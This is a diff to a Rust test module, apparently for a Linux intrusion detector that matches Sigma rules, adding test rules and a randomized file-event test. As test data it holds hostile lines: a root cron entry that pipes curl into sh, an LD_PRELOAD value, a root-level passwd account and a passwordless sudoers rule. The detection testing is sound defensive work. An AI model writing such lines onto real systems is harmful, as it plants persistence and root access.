@@ -384,10 +384,21 @@ detection: {a: {type: EXECVE}, b: {'|all': [id, '-u']}, condition: a and b}
 title: t5
 logsource: {product: linux, service: auditd}
 detection: {a: {a2|contains: Bash}, b: {exe|startswith: /tmp}, c: {key: x}, condition: 1 of them}
+---
+title: t6
+logsource: {product: linux, category: file_event}
+detection: {a: {file.name: [ZZ, x.php]}, b: {process.name: redis-server}, c: {file.directory|endswith: /Cron.d}, condition: (a and b) or (c and not b)}
+---
+title: t7
+logsource: {product: linux, category: file_event}
+detection: {a: {TargetFilename: /tmp/zz, event.action: attributes}, b: {file.mode|startswith: '4', Image|endswith: /sh}, condition: 1 of them}
+---
+title: t8
+logsource: {product: linux, category: file_event}
+detection: {a: ['/Tmp/x', curl], condition: a}
 ";
 
-    #[test]
-    fn no_rule_is_passed_over_that_would_match() {
+    fn loaded() -> Sigma {
         let folder = tempfile::tempdir().unwrap();
         std::fs::write(folder.path().join("more.yml"), MORE).unwrap();
         let folders = [PathBuf::from(SHIPPED), folder.path().to_owned()];
@@ -401,7 +412,12 @@ detection: {a: {a2|contains: Bash}, b: {exe|startswith: /tmp}, c: {key: x}, cond
         };
         let loaded = load(&sources, &mut LastGood::default(), Timestamp::default());
         assert_eq!(loaded.problems, []);
-        let sigma = loaded.sigma;
+        loaded.sigma
+    }
+
+    #[test]
+    fn no_rule_is_passed_over_that_would_match() {
+        let sigma = self::loaded();
         let mut random = fastrand::Rng::with_seed(7);
         let (mut matched, names) = (
             HashSet::new(),
@@ -478,5 +494,78 @@ detection: {a: {a2|contains: Bash}, b: {exe|startswith: /tmp}, c: {key: x}, cond
             matched.extend(met);
         }
         assert!(matched.len() > 10, "{matched:?}");
+    }
+
+    #[test]
+    fn no_rule_about_files_is_passed_over_that_would_match() {
+        use picket_common::event::{ChangeKind, FileChange, FileEvent, Program};
+        let sigma = loaded();
+        let mut random = fastrand::Rng::with_seed(7);
+        let folders = [
+            "/etc/",
+            "/etc/cron.d/",
+            "/tmp/",
+            "/var/www/x/Uploads/",
+            "/usr/bin/",
+            "/HOME/a/.ssh/",
+            "/etc/sudoers.d/",
+        ];
+        let names = [
+            "ld.so.preload",
+            "x.PHP",
+            "a.php.jpg",
+            "zz",
+            "Sudoers",
+            "passwd",
+            "x.service",
+            "rc",
+            ".htaccess",
+        ];
+        let writers = ["/usr/sbin/php-fpm8.2", "/bin/sh", "/usr/bin/Redis-server", ""];
+        let lines = [
+            "* * * * * root curl x | sh",
+            "LD_PRELOAD=/x",
+            "toor:x:0:0::/:/bin/sh",
+            "x ALL=(ALL) NOPASSWD: ALL",
+            "Exec=/tmp/x",
+            "x: no password",
+        ];
+        let mut matched = HashSet::new();
+        for _ in 0..20_000 {
+            let path = format!(
+                "{}{}",
+                random.choice(folders).unwrap(),
+                random.choice(names).unwrap()
+            );
+            let action = *random.choice(FileAction::ALL).unwrap();
+            let mut file = FileEvent::new(path, action);
+            let mut writer = Program::unknown(ProcessId::uncertain(7));
+            writer.executable = Some((*random.choice(&writers).unwrap()).into());
+            file.writer = random.bool().then(|| writer.into());
+            file.mode = *random.choice(&[None, Some(0o644), Some(0o4755)]).unwrap();
+            file.package = random.bool().then(|| "x".into());
+            if random.bool() {
+                let mut change = FileChange::new(*random.choice(ChangeKind::ALL).unwrap());
+                change.added = vec![(*random.choice(&lines).unwrap()).into()];
+                change.added_count = 1;
+                file.change = Some(change.into());
+            }
+            let mut met = Vec::new();
+            sigma.meet_file(&file, &mut met);
+            met.sort_unstable();
+            let all = (0..sigma.singles.len()).filter(|at| {
+                let single = &sigma.singles[*at];
+                match single.topic {
+                    Topic::Files { attributes } => {
+                        (attributes || action != FileAction::Attributes)
+                            && single.asked(&View::File(&file), None)
+                    }
+                    _ => false,
+                }
+            });
+            assert_eq!(met, all.collect::<Vec<_>>(), "{file:?}");
+            matched.extend(met);
+        }
+        assert!(matched.len() > 12, "{matched:?}");
     }
 }
